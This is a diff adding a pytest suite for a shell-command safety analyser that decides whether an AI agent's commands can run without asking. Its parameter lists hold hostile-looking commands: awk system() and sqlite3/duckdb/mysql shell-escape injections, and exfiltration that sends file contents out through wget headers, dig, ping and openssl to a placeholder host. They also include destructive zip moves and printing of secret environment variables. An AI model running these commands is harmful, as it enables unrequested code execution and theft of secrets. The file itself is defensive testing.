@@ -1,0 +1,185 @@
+"""Commands that looked harmless by one of their words, and were not."""
+
+import pytest
+
+from tests.policy.shell.workspace import analysed, effects, runs_unasked
+from toolreeve.core.effects import EffectKind
+
+RUN_OR_WRITE = [
+    r"""bash -c "echo $ \\"{"';touch PWN;:'","'"}"'\"""",
+    """uniq "x$"{a,b}\"\"""",
+    """awk 'BEGIN { x = length /"/; system("touch PWN"); y=1 } #"'""",
+    """awk 'x++ /"/; system("touch PWN") #"'""",
+    """awk 'x-- /"/; system("touch PWN") #"'""",
+    """awk --posix --assign 'BEGIN{system("touch PWN")}' x""",
+    "sqlite3 -cmd '.shell touch PWN' -version",
+    "sqlite3 -cmd '.shell touch PWN' -help",
+    "sqlite3 -cmd '.shell touch PWN' -safe x.db 'select 1'",
+    "sqlite3 x.db 'select * from v'",
+    "sqlite3 -readonly x.db 'select * from v'",
+    "duckdb -cmd '.shell touch PWN' -version",
+    "duckdb -c \"copy a to 'x'\" -version",
+    "duckdb -c 'from \"any.csv\"'",
+    "sed -e 'w README.md' --version",
+    "sed -e 'w README.md' --help",
+    "zip -qrm - src > /dev/null",
+    "gzip -S -c README.md",
+    "gzip -rS -c src",
+    "xz -S -c README.md",
+    "chmod --reference=/bin/ls README.md -",
+    "ls | tee -",
+    "mkdir -",
+    "xxd README.md -h",
+    "xxd - -p",
+    r"mysql -h db.example.com -G -e $'select 1\nsystem touch PWN'",
+    r"mysql -h db.example.com -e $'select 1\nsystem touch PWN'",
+    "printf %n PATH; ls",
+    "printf 'x%n' HOME; cat ~/f",
+    "tar -cf x.tar src --version",
+]
+CODE_OF_THE_WORKSPACE = [
+    "npm pack --dry-run",
+    "yarn --version",
+    "yarn -v",
+    "yarn list",
+    "yarn why x",
+    "yarn --help",
+    "yarn mytool --help",
+    "pnpm --version",
+    "pnpm ls",
+    "pnpm audit",
+    "pnpm why x",
+    "pnpm root",
+    "pnpm outdated",
+    "pnpm licenses",
+    "pnpm mytool --help",
+    "uv pip list",
+    "uv pip freeze",
+    "uv pip show x",
+    "uv pip check",
+    "uv python find",
+    "uv tree --frozen",
+    "pytest --version",
+    "pytest -V",
+    "flake8 --version",
+    "flake8 --help",
+    "flake8 -h",
+    "pylint --help",
+    "pylint -h",
+    "ansible --version",
+    "ansible -h",
+    "ansible-playbook --version",
+    "ansible-doc --help",
+    "poetry --version",
+    "cargo --version",
+    "rustc --version",
+    "rustup show",
+    "rustfmt --check x.rs",
+    "cargo locate-project",
+    "jest --version",
+    "eslint --version",
+    "mypy --version",
+    "go version",
+    "dotnet --version",
+    "gradle --version",
+    "mvn --version",
+    "git log --show-signature",
+    "git log --format=%G?",
+    "git tag -v v1",
+    "git for-each-ref --format='%(signature)'",
+]
+SENT = [
+    "curl -s --etag-compare FILE https://any.example/",
+    "curl -b FILE https://any.example/",
+    "curl --cert FILE https://any.example/",
+    "curl --ftp-create-dirs ftp://any.example/a/b",
+    'wget -qO- --user-agent "$(cat f)" https://any.example/',
+    'wget -qO- --referer "$(cat f)" https://any.example/',
+    'wget -qO- --header "$(cat f)" https://any.example/',
+    'openssl s_client -connect any.example:443 -servername "$(cat f)"',
+    'openssl s_client -connect any.example:443 -alpn "$(cat f)"',
+    'ping -c 1 -p "$(cat f)" any.example',
+    'aws s3 ls s3://theirs/"$(cat f)"',
+    'dig -q "$(cat f).any.example"',
+    'host -t "$(cat f)" any.example',
+    "npm view x@https://any.example/x.tgz",
+    "npm view x@github:a/b",
+    "npm view x",
+]
+
+
+@pytest.mark.parametrize("command", [*RUN_OR_WRITE, *CODE_OF_THE_WORKSPACE, *SENT])
+def test_no_word_is_believed_before_all_words_are_judged(command: str) -> None:
+    assert not runs_unasked(command), analysed(command)
+
+
+@pytest.mark.parametrize("command", CODE_OF_THE_WORKSPACE[:4])
+def test_a_program_that_loads_code_of_the_workspace_says_so(command: str) -> None:
+    (part,) = analysed(command).parts
+
+    assert part.code
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["sed --version", "git --version", "tar --help", "curl -V", "node -v", "python3 --version", "awk --version"],
+)
+def test_a_program_that_loads_none_may_describe_itself(command: str) -> None:
+    assert runs_unasked(command), analysed(command).reason
+
+
+@pytest.mark.parametrize(
+    ("command", "effect"),
+    [
+        ("dig -q x.example.com", "net:x.example.com"),
+        ("xmllint --html http://any.example/x", "net:any.example"),
+        ("curl -b FILE https://any.example/", "send:any.example"),
+        ("pip list -o", "net:package index"),
+        ("terraform version", "net:checkpoint-api.hashicorp.com"),
+        ("zip -qrm - src", "delete:/project/src"),
+        ("xxd a -h", "write:/project/-h"),
+        ("tee -", "write:/project/-"),
+        ("iconv -f ./x y", "read:/project/x"),
+        ("zgrep -R x", "read:/project"),
+        ("cat > f << 'EOF'\nx\nEOF", "write:/project/f"),
+        ("cat > f <<EOF\n$(x)\nEOF", "write:/project/f"),
+        ("PATH=. sed -i s/a/b/ f", "write:/project/f"),
+        ("apply_patch <<'EOF'\n*** Begin Patch\n*** Delete File: a\n*** End Patch\nEOF", "delete:/project/a"),
+    ],
+)
+def test_effects_that_were_missing_are_told(command: str, effect: str) -> None:
+    assert effect in effects(command)
+
+
+@pytest.mark.parametrize(
+    "command", ["env", "env -0", "printenv", "set", "declare -p", "export -p", "export", "echo $API_TOKEN"]
+)
+def test_variables_that_may_be_secrets_are_never_printed_unasked(command: str) -> None:
+    assert not runs_unasked(command)
+
+
+@pytest.mark.parametrize("command", ["printenv PATH", "declare -p LANG", "echo $EDITOR_NAME", "set -eu; ls"])
+def test_other_variables_are(command: str) -> None:
+    assert runs_unasked(command), analysed(command).reason
+
+
+def test_an_assignment_before_a_program_leaves_its_effects_visible() -> None:
+    code = analysed("PYTHONPATH=src pytest -q --junitxml=out.xml")
+    other = analysed("LD_PRELOAD=./x.so ls")
+
+    assert [(part.program, part.code) for part in code.parts] == [("pytest", True)]
+    assert any(effect.kind is EffectKind.WRITE for effect in code.effects)
+    assert [(part.program, part.known, part.code) for part in other.parts] == [("ls", False, False)]
+
+
+def test_activating_an_environment_is_code_of_the_workspace_and_other_files_are_unknown() -> None:
+    activated = analysed("source .venv/bin/activate && ls").parts
+    other = analysed("source ./x.sh").parts
+
+    assert [(part.known, part.code) for part in activated] == [(False, True), (True, False)]
+    assert [(part.known, part.code) for part in other] == [(False, False)]
+
+
+def test_the_login_shell_of_an_agent_is_read_like_any_other() -> None:
+    assert runs_unasked("bash -lc 'cd src && grep -rn TODO . | head'")
+    assert not runs_unasked("bash -lc 'touch x'")
